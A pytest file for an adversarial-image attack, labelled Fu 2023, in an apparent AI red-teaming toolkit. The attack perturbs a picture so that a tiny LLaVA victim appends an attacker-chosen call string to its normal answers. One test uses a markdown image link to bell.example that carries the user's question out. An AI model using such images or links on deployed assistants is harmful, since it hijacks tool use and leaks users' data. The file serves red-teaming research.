"""Fu 2023 through its registered class: the three-part loss, where the answers come from, which prompts are drawn."""

from __future__ import annotations

import dataclasses
import json

import numpy as np
import pytest
import torch
from hypothesis import given
from hypothesis import strategies as st

from proofglass.attacks.image.fu2023 import ChannelBall, channel_norms
from proofglass.errors import UsageError
from proofglass.registry import build as plug
from proofglass.types import Budget, Chat, Cost, Image, Reply, Sample
from proofglass.victims.llava import Llava
from tiny_models import SIDE, build

QUICK = {"steps": 6, "answer_tokens": 6, "call": '<bell ring="2">', "related": ("what is in the picture ?",)}


@pytest.fixture(scope="module")
def victim(tmp_path_factory):
    return Llava(build("llava", tmp_path_factory.mktemp("tiny") / "llava"), device="cpu")


@dataclasses.dataclass(frozen=True)
class Answering(Llava):
    """The same white box with a fixed answer. Notes what it was asked."""

    asked: list = dataclasses.field(default_factory=list)

    def reply(self, asks):
        self.asked.extend(asks)
        return [Reply(f"well , {k}", cost=Cost(forward=1, queries=1, tokens_out=3)) for k in range(len(asks))]

    @property
    def key(self):
        return "answering"


class Counting:
    """A victim whose answer tokens cost 2 each and call tokens 3, after a prompt of 5 tokens. Weights as given."""

    passes, gated = 1, False

    def __init__(self):
        self.drawn = []

    def prepare(self, pairs, *, append_eos=False):
        assert append_eos
        return Ready(tuple((4, 5) for _ in pairs[0]))

    def loss_and_grad(self, x, prepared, *, weighting, need_grad=True):
        assert weighting == "given"
        self.drawn.append(prepared.picks)
        nll = torch.tensor([2.0] * 4 + [3.0] * 5, dtype=torch.float64)
        loss = sum((nll * torch.tensor(row, dtype=torch.float64)).sum() for row in prepared.weights)
        return dataclasses.make_dataclass("Seen", ["loss", "pixels"])(loss.reshape(1), torch.zeros_like(x))


@dataclasses.dataclass
class Ready:
    row: tuple
    weights: list = dataclasses.field(default_factory=list)
    picks: tuple = ()

    @property
    def spans(self):
        return (self.row,)

    def weighted(self, weights):
        return dataclasses.replace(self, weights=weights[0])

    def select(self, picks):
        (chosen,) = picks
        return Ready(tuple(self.row[k] for k in chosen), [self.weights[k] for k in chosen], tuple(chosen))


def picture(seed):
    return Image.from_array(np.random.default_rng(seed).integers(0, 256, (SIDE, SIDE, 3), dtype=np.uint8))


def samples(n=4, **fields):
    return [Sample(f"s{k}", "toy", Chat.user(picture(k), f"mend a kite {k}"), **fields) for k in range(n)]


def made(victim, todo=None, seed=3, budget=None, **fields):
    attack = plug("attacks", "fu2023", **{**QUICK, **fields})
    (artefact,) = attack.craft(victim, todo or samples(), seed=seed, budget=budget)
    return attack, artefact


# ---------------------------------------------------------------------------------------------- the loss


DELTA = torch.tensor([[0.03, 0.04, 0, 0], [0, 0, 0.05, 0.12], [0.02] * 4], dtype=torch.float64).reshape(1, 3, 2, 2)


@pytest.mark.parametrize(("trade_off", "total"), [(0.1, 1.7665556), (1.0, 2.5665556)])
def test_the_loss_is_answer_call_and_distance_over_the_targets_tokens_alone(trade_off, total):  # G23
    # P, F, L = 5, 9, 14: (trade_off * 4 * 2 + 5 * 3) / (14 - 5) + .05 * (.05 + .13 + .04). Over all L tokens it would
    # be 1.14 and 1.65: the prompt's tokens do not count.
    attack = plug("attacks", "fu2023", trade_off=trade_off)
    x0 = torch.full((1, 3, 2, 2), 0.5, dtype=torch.float64)
    objective = attack.objective(Counting(), [(Chat.user("a"), ("b", "c"))] * 3, 1, x0, 0)
    assert float(objective(x0 + DELTA, 0).loss) == pytest.approx(total, abs=1e-6)
    assert float(objective.value(x0 + DELTA).loss) == pytest.approx(total, abs=1e-6)  # the mean over prompts


def test_the_distance_is_a_sum_over_channels():  # G23
    torch.testing.assert_close(channel_norms(DELTA)[0], torch.tensor([0.05, 0.13, 0.04], dtype=torch.float64))
    assert float(channel_norms(DELTA).sum()) == pytest.approx(0.22)
    assert float(DELTA.norm()) == pytest.approx(0.144914, abs=1e-6)


def test_on_real_tokens_the_loss_is_the_same_formula(victim):
    attack = plug("attacks", "fu2023", trade_off=0.3, similarity=0.05)
    x0 = 0.1 + 0.8 * victim.pixels(picture(0))
    x = x0 + 0.03
    chat = Chat.user(picture(0), "mend a kite")
    objective = attack.objective(victim, [(chat, ("yes , do", '\n<bell ring="2">'))], 0, x0, 0)
    seen = objective(x, 0)
    # Part by part, from plain losses: the answer alone, then answer, newline, call and end token together.
    answer = victim.loss_and_grad(x, victim.prepare([[(chat, "yes , do")]]), weighting="sum", need_grad=False)
    whole = victim.prepare([[(chat, 'yes , do\n<bell ring="2">')]], append_eos=True)
    both = victim.loss_and_grad(x, whole, weighting="sum", need_grad=False)
    (tokens,) = whole.spans[0][0]
    assert tokens == len("yes , do") + len('\n<bell ring="2">') + 1  # one token per byte, and the end
    said = (0.3 * float(answer.loss) + float(both.loss) - float(answer.loss)) / tokens
    distance = sum(float((x - x0)[0, c].norm()) for c in range(3))
    assert float(seen.loss) == pytest.approx(said + 0.05 * distance, abs=1e-4)
    direction = seen.grad.sign()
    ahead, behind = (objective(x + s * 1e-3 * direction, 0, need_grad=False).loss for s in (1, -1))
    slope = float((seen.grad * direction).sum())
    assert float(ahead - behind) / 2e-3 == pytest.approx(slope, rel=0.02)


def test_at_the_clean_picture_the_distance_pulls_nowhere():
    attack = plug("attacks", "fu2023")
    x0 = torch.full((1, 3, 2, 2), 0.5)
    seen = attack.objective(Counting(), [(Chat.user("a"), ("b", "c"))] * 2, 1, x0, 0)(x0, 0)
    assert (seen.grad == 0).all()


# ---------------------------------------------------------------------------------------------- prompts and answers


def test_fifteen_in_a_hundred_prompts_are_about_the_picture():
    def objective():
        pairs = [(Chat.user("a"), ("b", "c"))] * 10
        return plug("attacks", "fu2023").objective(counting, pairs, 3, torch.zeros(1, 3, 2, 2), 7)

    counting = Counting()
    ((_, said), _) = objective().terms
    drawn = np.array([said.draw(step) for step in range(4000)])
    assert drawn.shape == (4000, 1, 1)
    counts = np.bincount(drawn.flatten(), minlength=10) / 4000
    assert counts[:3].sum() == pytest.approx(0.15, abs=0.028)  # five standard deviations
    assert counts[:3] == pytest.approx(0.05, abs=0.0175)
    assert counts[3:] == pytest.approx(0.85 / 7, abs=0.026)
    objective()(torch.zeros(1, 3, 2, 2), 17)
    assert counting.drawn == [tuple(drawn[17, 0])]  # a draw depends on seed and step alone


@pytest.mark.parametrize("separator", ["\n", " "])
def test_answers_are_the_victims_own_on_the_clean_picture_with_the_call_behind(victim, separator):
    answering = Answering(victim.path, device="cpu")
    seen = []

    @dataclasses.dataclass(frozen=True)
    class Watching(type(plug("attacks", "fu2023"))):
        def objective(self, victim, pairs, related, x0, seed):
            seen.append((pairs, related))
            return super().objective(victim, pairs, related, x0, seed)

    link = "![bell](https://bell.example/{question})"
    attack = Watching(**{**QUICK, "steps": 1, "call": link, "separator": separator})
    (artefact,) = attack.craft(answering, samples(2), seed=3)
    assert [ask.chat.last_text for ask in answering.asked] == [*QUICK["related"], "mend a kite 0", "mend a kite 1"]
    assert {ask.chat.images for ask in answering.asked} == {(artefact.clean,)}
    assert {(ask.settings.max_new_tokens, ask.settings.temperature) for ask in answering.asked} == {(6, 0.0)}
    ((pairs, related),) = seen
    assert related == 1
    assert pairs[2][1] == ("well , 2", separator + "![bell](https://bell.example/mend%20a%20kite%201)")
    assert artefact.cost.queries == 3
    assert artefact.cost.tokens_out == 9
    assert artefact.cost.backward == 1


def test_samples_of_the_stated_categories_are_about_the_picture():
    attack = plug("attacks", "fu2023", related=(), related_categories=("reading",))
    todo = [*samples(2, category="reading"), *samples(1, category="craft")]
    related, others = attack._prompts(todo, picture(9))
    assert [len(related), len(others)] == [2, 1]
    assert all(chat.images == (picture(9),) for chat in related + others)


def test_a_share_without_prompts_says_what_to_set(victim):
    with pytest.raises(UsageError, match="related_share to 0"):
        made(victim, related=())
    with pytest.raises(UsageError, match="set it to 1"):
        made(victim, samples(category="reading"))
    made(victim, related=(), related_share=0.0)
    made(victim, samples(category="reading"), related_share=1.0)


# ---------------------------------------------------------------------------------------------- the search


@pytest.mark.parametrize("fields", [{"optimizer": "gd", "step_size": 0.2}, {"optimizer": "adam"}])
def test_one_picture_for_all_whose_loss_fell(victim, fields):
    todo = samples()
    before = [s.chat.images[0].array().copy() for s in todo]
    _, start = made(victim, todo, steps=0, **fields)
    attack, artefact = made(victim, todo, steps=25, **fields)
    assert artefact.trace["loss_after_rounding"] < start.trace["loss_before_rounding"]
    assert artefact.sample_id is None
    assert artefact.clean == todo[0].chat.images[0]
    assert artefact.images[0] != artefact.clean
    assert artefact.trace["distance"] > 0
    assert attack.apply(artefact, todo[2]).images == artefact.images
    assert attack.apply(artefact, todo[2]).last_text == "mend a kite 2"
    assert all((s.chat.images[0].array() == pixels).all() for s, pixels in zip(todo, before, strict=True))
    json.dumps(dict(artefact.trace))


def test_it_starts_at_the_clean_picture_and_is_plain_descent(victim):
    _, start = made(victim, steps=0)
    assert start.images[0] == start.clean
    attack = plug("attacks", "fu2023", **{**QUICK, "steps": 1, "step_size": 3.0})
    (artefact,) = attack.craft(victim, samples(), seed=3)
    x0 = victim.pixels(artefact.clean)
    related, others = attack._prompts(samples(), artefact.clean)
    from proofglass.types import Ask, Settings

    replies = victim.reply([Ask(chat, Settings(6)) for chat in related + others])
    pairs = [(c, (r.text, "\n" + QUICK["call"])) for c, r in zip(related + others, replies, strict=True)]
    grad = attack.objective(victim, pairs, 1, x0, 3)(x0, 0).grad
    wanted = np.floor((x0 - 3.0 * grad).clamp(0, 1).numpy() * 255 + 0.5)[0].transpose(1, 2, 0)
    assert np.abs(artefact.images[0].array() - wanted).max() <= 1


def test_radius_and_epsilon_hold_after_rounding(victim):
    _, artefact = made(victim, optimizer="adam", radius=0.5, epsilon=4 / 255, step_size=0.05)
    delta = (artefact.images[0].array().astype(float) - artefact.clean.array()) / 255
    assert np.abs(delta).max() <= 4 / 255 + 1e-9
    channels = np.linalg.norm(delta.reshape(-1, 3), axis=0)
    assert channels.max() <= 0.5 * (1 + 1e-9)
    assert artefact.trace["distance"] == pytest.approx(channels.sum())  # of the saved picture


@given(st.integers(0, 10_000), st.floats(0.05, 3), st.floats(0.01, 1))
def test_the_ball_holds_for_every_channel(seed, radius, epsilon):
    x0, noise = torch.rand(2, 2, 3, 5, 5, generator=torch.Generator().manual_seed(seed))
    ball = ChannelBall(radius, epsilon)
    x = ball.project(x0 + 4 * (noise - 0.5), x0)
    assert float(channel_norms(x - x0).max()) <= radius + 1e-5
    assert float((x - x0).abs().max()) <= epsilon + 1e-6
    assert 0 <= float(x.min()) <= float(x.max()) <= 1
    torch.testing.assert_close(ball.project(x, x0), x)
    assert torch.equal(ball.begin(x0, noise), x0)
    # Channels are bound one by one: moving one leaves the others where they were.
    one = x0.clone()
    one[:, 0] = 1 - x0[:, 0]
    assert torch.equal(ball.project(one, x0)[:, 1:], x0[:, 1:])


def test_a_prompt_without_an_answer_is_an_error_and_not_a_call_alone(victim):
    # 256 positions do not hold this prompt, its picture and 250 new tokens.
    with pytest.raises(UsageError, match=r"answer_tokens: no answer to '.*context length of 256"):
        made(victim, answer_tokens=250)


def test_one_seed_one_picture(victim):
    (_, one), (_, again), (_, other) = (made(victim, seed=s, optimizer="adam") for s in (3, 3, 4))
    assert one.images == again.images
    assert one.images != other.images


def test_answers_count_into_the_budget(victim):
    _, artefact = made(victim, steps=50, budget=Budget(20))
    assert artefact.cost.queries == 5
    assert artefact.trace["steps"] == 5  # 20 - 5 answers = 15 = 5 steps of one forward and one backward pass
    assert "budget" in artefact.trace["stopped"]
    _, timed = made(victim, steps=3, budget=Budget(600, "seconds"))
    assert timed.trace["steps"] == 3


@pytest.mark.parametrize(
    ("bad", "field"),
    [
        ({"call": ""}, "call"),
        ({"optimizer": "sgd"}, "optimizer"),
        ({"steps": -1}, "steps"),
        ({"trade_off": -0.1}, "trade_off"),
        ({"similarity": -1}, "similarity"),
        ({"related_share": 1.5}, "related_share"),
        ({"step_size": 0}, "step_size.*found 0"),
        ({"answer_tokens": 0}, "answer_tokens.*found 0"),
        ({"radius": 0.0}, "radius"),
        ({"epsilon": 8}, "epsilon.*8/255"),
    ],
)
def test_bad_parameters_name_the_field(bad, field):
    with pytest.raises(ValueError, match=field):
        plug("attacks", "fu2023", **bad)
